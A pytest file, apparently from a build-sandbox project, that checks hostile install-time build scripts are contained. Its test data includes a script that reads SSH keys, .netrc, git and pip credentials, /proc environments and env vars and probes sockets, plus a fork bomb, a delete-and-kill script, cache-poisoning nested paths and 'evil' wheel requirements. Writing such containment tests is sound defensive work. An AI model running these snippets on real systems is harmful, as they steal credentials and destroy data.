"""Build scripts that are hostile while a repository is installed: they read no secret and reach nobody."""

import json
import re
import secrets
import zipfile
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path

import pytest

from schemas.errors import EnvironmentFailed, SandboxFailed
from schemas.repo import EnvironmentInfo, InstallSpec, Language, RepoProfile, RepoRef
from validation.environment import build_environment
from validation.project_build import declared_name
from validation.sandbox.protocol import TESTBED, SandboxBackend
from validation.workbench import BUILD_LIMITS

CACHE = Path(__file__).parents[3] / "build" / "test-cache"

IN_TREE = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
BACKEND = """
import os, zipfile
import deed

REQUIRES = []

def get_requires_for_build_editable(config_settings=None):
    return REQUIRES

def build_editable(folder, config_settings=None, metadata_directory=None):
    deed.act()
    requires = "".join(f"Requires-Dist: {line}\\n" for line in getattr(deed, "RUNTIME", []))
    with zipfile.ZipFile(os.path.join(folder, "calc-1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("calc.pth", "/testbed\\n")
        wheel.writestr("calc-1.dist-info/METADATA", f"Metadata-Version: 2.1\\nName: calc\\nVersion: 1\\n{requires}")
        wheel.writestr("calc-1.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("calc-1.dist-info/RECORD", "")
    return "calc-1-py3-none-any.whl"
"""
SETUPTOOLS = '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n'
SETUP = "import sys\nsys.path.insert(0, '.')\nimport deed\ndeed.act()\nfrom setuptools import setup\n"
SETUP += "setup(name='calc', version='1', py_modules=['calc'])\n"
PLAIN = {"pyproject.toml": IN_TREE, "backend.py": BACKEND, "calc.py": "ONE = 1\n", "deed.py": "def act():\n    pass\n"}
BY_SETUP = PLAIN | {"pyproject.toml": SETUPTOOLS, "setup.py": SETUP}

LOOK_AND_CALL = """
import glob, json, os, socket

def act():
    places = [
        *(folder + name for folder in (*FOLDERS, HOME) for name in ("/canary", "/.netrc", "/.git-credentials")),
        HOME + "/.config/pip/pip.conf", HOME + "/.config/gh/hosts.yml", HOME + "/.ssh/id_ed25519",
        os.path.expanduser("~/.netrc"), os.path.expanduser("~/.git-credentials"), os.path.expanduser("~/.config/pip/pip.conf"),
        *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/proc/[0-9]*/fd/*"),
        *(root + place + "/canary" for root in glob.glob("/proc/[0-9]*/root") for place in FOLDERS),
        "/testbed/deed.py",
    ]
    found = [f"{key}={value}" for key, value in os.environ.items()]
    for place in places:
        try:
            with open(os.open(place, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                found.append((file.read(1 << 16) or b"").decode("latin-1"))
        except OSError:
            pass
    reached = []
    for family, address in [*((socket.AF_INET, a) for a in TCP), *((socket.AF_UNIX, a) for a in UNIX)]:
        with socket.socket(family) as caller:
            caller.settimeout(0.5)
            try:
                caller.connect(address)
                reached.append(address)
            except OSError:
                pass
    with open("/testbed/found.json", "w") as file:
        json.dump({"found": found, "reached": reached}, file)
"""

Build = Callable[..., EnvironmentInfo]


@pytest.fixture
def build(kind: str, backends: Callable[[str], SandboxBackend], tmp_path: Path) -> Iterator[Build]:
    """Build a folder of these files; environments are removed again."""
    made: list[str] = []

    def run(files: Mapping[str, str], **options: object) -> EnvironmentInfo:
        tree = tmp_path / secrets.token_hex(4)
        for name, text in files.items():
            (tree / name).parent.mkdir(parents=True, exist_ok=True)
            (tree / name).write_text(text)
        ref = RepoRef(
            name="local/calc",
            url="local/calc",
            # A commit of its own, so that nothing is taken from an earlier build.
            commit=secrets.token_hex(20),
            committed_at=datetime(2026, 1, 1, tzinfo=UTC),
            version="1",
        )
        profile = RepoProfile(
            language=Language.PYTHON,
            source_files=("calc.py",),
            test_files=("test_calc.py",),
            install=InstallSpec(project=True, requirements=()),
            test_command=("pytest",),
            provenance={},
        )
        info = build_environment(tree, ref, profile, backend=backends(kind), cache_dir=CACHE, **options)
        made.append(info.image_name)
        return info

    yield run
    for image in made:
        backends(kind).remove(image)


@pytest.fixture
def stored(kind: str, backends: Callable[[str], SandboxBackend]) -> Callable[[EnvironmentInfo, str], str]:
    """A file of a stored tree."""

    def read(info: EnvironmentInfo, path: str) -> str:
        with backends(kind).open(info.image_name) as sandbox:
            return sandbox.get(f"{TESTBED}/{path}").decode()

    return read


def is_sound(build: Build, kind: str, backends: Callable[[str], SandboxBackend]) -> bool:
    """Whether a well-behaved project builds and its module comes from the tree."""
    with backends(kind).open(build(PLAIN).image_name) as sandbox:
        shown = sandbox.run(["/env/bin/python", "-c", "import calc; print(calc.ONE, calc.__file__)"], timeout_s=60)
    return shown.stdout == b"1 /testbed/calc.py\n"


@pytest.mark.parametrize("style", [PLAIN, BY_SETUP], ids=["backend", "setup.py"])
def test_a_build_script_reads_no_secret_and_reaches_nobody(kind, build, stored, host, backends, style) -> None:
    """It keeps what it finds in the tree that is stored, where everything that runs later could read it."""
    info = build(style | {"deed.py": f"{host.facts}{LOOK_AND_CALL}# canary-in-its-own-tree\n"})
    answer = json.loads(stored(info, "found.json"))
    assert answer["reached"] == []
    # What it may read it finds, so the search works.
    assert "canary-in-its-own-tree" in json.dumps(answer["found"])
    assert host.secret not in json.dumps(answer["found"])
    assert host.harm() == []
    assert is_sound(build, kind, backends)


def test_a_build_that_fails_tells_no_secret(build, host) -> None:
    tells = f"{host.facts}{LOOK_AND_CALL}\nlook = act\ndef act():\n    look()\n    raise SystemExit(open('/testbed/found.json').read())\n"
    with pytest.raises(EnvironmentFailed, match="backend build_editable: exit code 1") as failed:
        build(PLAIN | {"deed.py": tells})
    assert host.secret not in str(failed.value)


@pytest.mark.sandbox
@pytest.mark.parametrize("kind", ["local"])
@pytest.mark.parametrize(
    "requirement",
    [
        "evil @ http://127.0.0.1:{port}/evil-1-py3-none-any.whl",
        "evil @ file://{wheels}/evil-1-py3-none-any.whl",
        "--index-url http://127.0.0.1:{port}/simple",
        "-r {folder}/canary",
        "packaging\n--extra-index-url http://127.0.0.1:{port}/simple",
        "{folder}/canary",
    ],
    ids=["url", "file", "option", "requirements-file", "second-line", "path"],
)
def test_a_build_script_cannot_send_the_host_anywhere(build, host, tmp_path, requirement: str) -> None:
    """The host fetches what the build backend asks for; it goes to the package index and nowhere else."""
    with zipfile.ZipFile(tmp_path / "evil-1-py3-none-any.whl", "w") as wheel:
        wheel.writestr("evil.py", "")
        wheel.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
        wheel.writestr("evil-1.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("evil-1.dist-info/RECORD", "")
    asked = requirement.format(port=host.tcp.address[1], folder=host.folders[1], wheels=tmp_path)
    asking = BACKEND.replace("REQUIRES = []", f"REQUIRES = [{asked!r}]")
    with pytest.raises(EnvironmentFailed, match=r"gymforge\.toml") as refused:
        build(PLAIN | {"backend.py": asking})
    assert host.secret not in str(refused.value)
    assert host.harm() == []


@pytest.mark.sandbox
@pytest.mark.parametrize("kind", ["local"])
def test_metadata_cannot_send_the_host_anywhere(build, host) -> None:
    asked = f"RUNTIME = ['evil @ http://127.0.0.1:{host.tcp.address[1]}/evil-1-py3-none-any.whl']\n"
    with pytest.raises(EnvironmentFailed, match="only an index is used"):
        build(PLAIN | {"deed.py": asked + PLAIN["deed.py"]})
    assert host.harm() == []


def test_a_build_script_that_forks_without_end_is_contained(
    kind, build, backends, host, sampled, count_processes
) -> None:
    marker = f"20.{secrets.randbelow(10**9):09}"
    forks = f"""
import os

def act():
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os.setsid()
                os.execv("/bin/sleep", ["sleep", {marker!r}])
        except BlockingIOError:
            raise SystemExit("no more processes")
"""
    seen = sampled(lambda: count_processes(marker))
    with pytest.raises(EnvironmentFailed, match="no more processes"):
        build(PLAIN | {"deed.py": forks})
    assert 10 < max(seen) <= BUILD_LIMITS.processes + 4
    assert count_processes(marker) == 0
    assert is_sound(build, kind, backends)


def test_a_build_script_that_never_ends_is_ended_and_named(build, host) -> None:
    sleeps = "import time\ndef act():\n    time.sleep(50)\n"
    with pytest.raises(EnvironmentFailed, match="took more than 6 s"):
        build(PLAIN | {"deed.py": sleeps}, timeout_s=6.0)


def test_a_build_script_that_kills_and_deletes_all_it_sees_harms_nobody(kind, build, backends, host) -> None:
    kills = f"""{host.facts}
import os, shutil, signal

def act():
    for place in (*FOLDERS, HOME, "/usr/lib", "/gymforge"):
        shutil.rmtree(place, ignore_errors=True)
    for pid in (1, os.getppid(), PID, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
    assert build(PLAIN | {"deed.py": kills}).image_name
    assert host.harm() == []
    assert is_sound(build, kind, backends)


@pytest.mark.parametrize(
    "folders",
    ["['d' * 200] * 19 + ['e' * 140]", "['d' * 250] * 40", "['d'] * 1990"],
    ids=["long-for-the-host", "long-for-anybody", "deep"],
)
def test_a_build_script_that_nests_folders_poisons_no_cache(kind, build, backends, host, tmp_path, folders) -> None:
    """Paths that fit inside, or not even there, are longer than any path may be where the host keeps them.

    Such a tree is stored or refused; whoever builds next with the same cache must not notice.
    """
    nests = f"""
import os

def act():
    folder = os.open("/testbed", os.O_RDONLY)
    for name in {folders}:
        os.mkdir(name, dir_fd=folder)
        inner = os.open(name, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    for length in (5, 20, 40, 60, 80):
        os.close(os.open("f" * length, os.O_CREAT | os.O_WRONLY, dir_fd=folder))
"""
    try:
        info = build(PLAIN | {"deed.py": nests})
    except (EnvironmentFailed, SandboxFailed) as error:
        assert re.search("file name too long|recursion", str(error), re.IGNORECASE)  # noqa: PT017
    else:
        backends(kind).remove(info.image_name)
        assert not backends(kind).has(info.image_name)
    assert is_sound(build, kind, backends)
    assert not list((tmp_path.parent).glob("backends*/environments/.*"))


def test_a_project_file_that_is_a_link_is_not_read(tmp_path: Path) -> None:
    outside, tree = tmp_path / "outside.toml", tmp_path / "tree"
    outside.write_text('[project]\nname = "secret"\n')
    tree.mkdir()
    (tree / "pyproject.toml").symlink_to(outside)
    assert declared_name(tree) == ""
    (tree / "pyproject.toml").unlink()
    (tree / "pyproject.toml").write_text(outside.read_text())
    assert declared_name(tree) == "secret"
